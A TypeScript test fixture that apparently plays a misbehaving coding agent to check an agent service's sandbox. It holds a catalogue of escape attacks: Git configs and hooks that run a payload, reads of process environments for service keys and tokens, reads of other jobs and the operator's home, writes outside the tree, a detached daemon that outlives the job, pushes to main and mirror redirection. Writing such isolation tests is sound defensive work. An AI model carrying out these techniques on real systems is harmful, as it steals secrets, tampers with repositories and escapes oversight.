// An agent that was led astray: the prompt names its attacks, separated by commas. It runs in a sandbox, so it imports only
// Node's modules.
// HOSTILE_MARKER is a file that no attack may create, OPERATOR_HOME the home directory of the service's user.
import { execFileSync, spawn } from "node:child_process";
import fs from "node:fs";
import { dirname, join } from "node:path";

const names = fs.readFileSync(0, "utf8").split("\n", 1).join("").split(", ");
const { HOSTILE_MARKER: marker = "", OPERATOR_HOME: operatorHome = "" } = process.env;
const tree = process.cwd();
const payload = `touch '${marker}'`;
const run = `${payload}; cat`;

/** Every setting by which Git runs a program. */
const settings = (folder: string): string => `[core]
  hooksPath = ${folder}/hooks
  fsmonitor = ${payload}; false
  sshCommand = ${payload}; false
  attributesFile = ${folder}/info/attributes
  alternateRefsCommand = ${payload}; false
[filter "x"]
  clean = ${run}
  smudge = ${run}
  required = true
[diff "x"]
  textconv = ${run}
  command = ${payload}
[merge "x"]
  driver = ${payload}; false
[credential]
  helper = "!${payload}"
[uploadpack]
  packObjectsHook = ${payload}; false
`;
const attributes = "* filter=x diff=x merge=x\n";
const hooks = [
  "post-checkout",
  "pre-push",
  "reference-transaction",
  "pre-auto-gc",
  "post-index-change",
  "fsmonitor-watchman",
];

/** Writes a file if that is possible. */
function write(file: string, content: string, mode = 0o644): void {
  try {
    fs.mkdirSync(dirname(file), { recursive: true });
    fs.writeFileSync(file, content, { mode });
    fs.chmodSync(file, mode);
  } catch (error) {
    console.log(`cannot write ${file}: ${error}`);
  }
}

const clock = new Int32Array(new SharedArrayBuffer(4));

/** Returns the result of `action`; `undefined` if it throws. */
function tryTo<T>(action: () => T): T | undefined {
  try {
    return action();
  } catch {
    return undefined;
  }
}

function plantIn(repository: string): void {
  const extensions = `[extensions]\n  worktreeConfig = true\n[include]\n  path = ${repository}/included\n`;
  write(join(repository, "config"), `[core]\n  bare = true\n${settings(repository)}\n${extensions}`);
  for (const file of ["config.worktree", "included"]) write(join(repository, file), settings(repository));
  write(join(repository, "info/attributes"), attributes);
  for (const hook of hooks) write(join(repository, "hooks", hook), `#!/bin/sh\n${payload}\n`, 0o755);
}

/** The bare clone of the service, which the worktree names as its source of objects. */
function mirror(): string {
  return dirname(fs.readFileSync(".git/objects/info/alternates", "utf8").trim());
}

/** Makes commits reproducible. */
const person = Object.fromEntries(
  ["AUTHOR", "COMMITTER"].flatMap((role) => [
    [`GIT_${role}_NAME`, "Someone"],
    [`GIT_${role}_EMAIL`, "someone@example.com"],
    [`GIT_${role}_DATE`, "2026-01-01T00:00:00Z"],
  ]),
);

/** Returns the content of all files in a folder that can be read. */
function readAll(folder: string): string {
  const entries = fs.readdirSync(folder, { withFileTypes: true, recursive: true });
  const files = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
  return files.map((file) => read(file)).join("\n");
}

function read(file: string): string {
  try {
    return fs.readFileSync(file, "latin1");
  } catch {
    return "";
  }
}

const serviceFolder = () => dirname(mirror());

const attacks: Record<string, () => void> = {
  "read the environment of processes": () => {
    const readEach = (file: string) => fs.readdirSync("/proc").map((process) => read(`/proc/${process}/${file}`));
    const isSeen = readEach("cmdline").some((text) => text.includes("service/src/main.ts"));
    console.log(`sees ${isSeen ? "the service's process" : "no process of the service"}`);
    const environments = () => readEach("environ");
    const found = () => environments().some((text) => /(AGENT_SERVICE_KEY|GITHUB_TOKEN)=/.test(text));
    // Only root can do that, and only outside the sandbox. The machine's /proc is below the namespace's.
    if (!found()) tryTo(() => execFileSync("umount", ["--lazy", "/proc"], { stdio: "ignore" }));
    console.log(`found ${found() ? "a secret" : "nothing"}`);
  },
  "read other jobs": () => {
    const files = tryTo(() => readAll(serviceFolder())) ?? "";
    const store = read(serviceFolder().replace(/\.files$/, "-wal")) + read(serviceFolder().replace(/\.files$/, ""));
    console.log(`found ${(files + store).includes("in confidence") ? "a prompt" : "nothing"} of others`);
  },
  "read the home directory of the user": () => {
    console.log(`the user's files: ${read(join(operatorHome, "secret.md")) || "nothing"}`);
  },
  "write outside": () => {
    for (const folder of [
      operatorHome,
      dirname(tree),
      serviceFolder(),
      join(serviceFolder(), "logs"),
      mirror(),
      join(mirror(), "objects"),
      join(mirror(), "objects/info"),
    ])
      write(join(folder, "planted"), "x");
    // Only asked: without a sandbox, a write would change the machine.
    const isWritable = (folder: string) => tryTo(() => fs.accessSync(folder, fs.constants.W_OK) ?? true);
    console.log(`can write to: ${["/", "/dev", "/etc", "/usr", "/proc", "/var", "/tmp"].filter(isWritable)}`);
    console.log(`capabilities: ${/^CapEff:\s*(\w+)/m.exec(read("/proc/self/status"))?.[1]}`);
    // It is only opened: a write would change the machine.
    if (tryTo(() => fs.openSync("/proc/sys/kernel/core_pattern", "r+"))) console.log("can configure the kernel");
  },
  "push to main": () => {
    fs.writeFileSync("pushed.md", "x");
    execFileSync("git", ["add", "pushed.md"]);
    execFileSync("git", ["commit", "--quiet", "--message=Pushed"]);
    tryTo(() => execFileSync("git", ["push", "--quiet", "origin", "HEAD:main"], { stdio: "ignore" }));
  },
  "leave a process behind": () => {
    const daemon = `
      const fs = require("node:fs");
      setInterval(() => {
        fs.appendFileSync(process.env.HOME + "/beats", ".");
        for (const job of fs.readdirSync(${JSON.stringify(dirname(dirname(tree)))}))
          try { fs.writeFileSync(${JSON.stringify(dirname(dirname(tree)))} + "/" + job + "/tree/intruder.md", "x") } catch {}
      }, 10);
      setTimeout(() => process.exit(), 30_000);`;
    spawn("setsid", [process.execPath, "--eval", daemon], { detached: true, stdio: "ignore" }).unref();
    while (!fs.existsSync(join(process.env.HOME ?? "", "beats"))) Atomics.wait(clock, 0, 0, 20);
    fs.appendFileSync("README.md", "done\n");
  },
  "plant Git configuration": () => {
    plantIn(mirror());
    plantIn(join(tree, ".git"));
    write(join(operatorHome, ".gitconfig"), settings(join(tree, ".git")));
    write(join(operatorHome, ".config/git/config"), settings(join(tree, ".git")));
    write(join(operatorHome, ".config/git/attributes"), attributes);
    write(".gitattributes", attributes);
    fs.appendFileSync("README.md", "planted\n");
  },
  "plant a hook in the target repository": () => {
    const [url] = execFileSync("git", ["remote", "get-url", "origin"], { encoding: "utf8" }).split("\n");
    write(join(url ?? "", "hooks/pre-receive"), `#!/bin/sh\n${payload}\n`, 0o755);
    fs.appendFileSync("README.md", "changed\n");
  },
  "redirect the mirror": () => {
    write(join(mirror(), "commondir"), `${tree}/.git\n`);
    write(join(mirror(), ".git"), `gitdir: ${tree}/.git\n`);
    write(join(mirror(), "objects/info/alternates"), `${tree}/.git/objects\n`);
    fs.appendFileSync("README.md", "redirected\n");
  },
  "change a file": () => {
    // Long enough for others to interfere.
    Atomics.wait(clock, 0, 0, 200);
    write(".gitattributes", attributes);
    fs.appendFileSync("README.md", "changed\n");
  },
  "plant a filter in a submodule": () => {
    const git = (...args: string[]) => execFileSync("git", ["-C", "module", ...args]);
    git("init", "--quiet");
    // The commit that the repository names, as the test made it.
    write("module/page.md", "one\n");
    git("add", "page.md");
    execFileSync("git", ["-C", "module", "commit", "--quiet", "--message=Begin"], {
      env: { ...process.env, ...person },
    });
    fs.appendFileSync("module/.git/config", settings(join(tree, "module/.git")));
    write("module/.git/info/attributes", attributes);
    // It has the same size, so that Git has to read it.
    write("module/page.md", "two\n");
    fs.utimesSync("module/page.md", 1, 1);
    fs.appendFileSync("README.md", "changed\n");
  },
  "replace the worktree by a link": () => {
    fs.renameSync(tree, `${tree}-moved`);
    fs.symlinkSync(operatorHome, tree);
  },
};

for (const name of names) {
  const attack = attacks[name];
  if (attack === undefined) throw new Error(`no such attack: ${name}`);
  attack();
}
